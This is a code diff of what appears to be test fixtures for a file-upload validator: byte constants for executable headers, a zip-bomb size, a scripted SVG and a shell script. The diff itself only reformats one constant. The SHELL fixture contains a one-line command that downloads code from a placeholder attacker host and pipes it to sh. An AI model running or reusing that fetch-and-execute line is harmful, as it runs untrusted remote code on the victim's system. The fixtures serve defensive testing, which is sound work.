@@ -39,8 +39,10 @@ ZIP_BOMB_BYTES = 50 * 1024 * 1024  # over every unpacking limit (evidence 10 MB 
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
 PE = (
     b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
-    + b"\x00" * 44 + struct.pack("<I", 64)
-    + b"This program cannot be run in DOS mode.\r\r\n$" + b"PE\x00\x00\x4c\x01"
+    + b"\x00" * 44
+    + struct.pack("<I", 64)
+    + b"This program cannot be run in DOS mode.\r\r\n$"
+    + b"PE\x00\x00\x4c\x01"
 )
 SHELL = b"#!/bin/sh\ncurl -s http://penyerang.example/x | sh\n"
 SCRIPTED_SVG = (
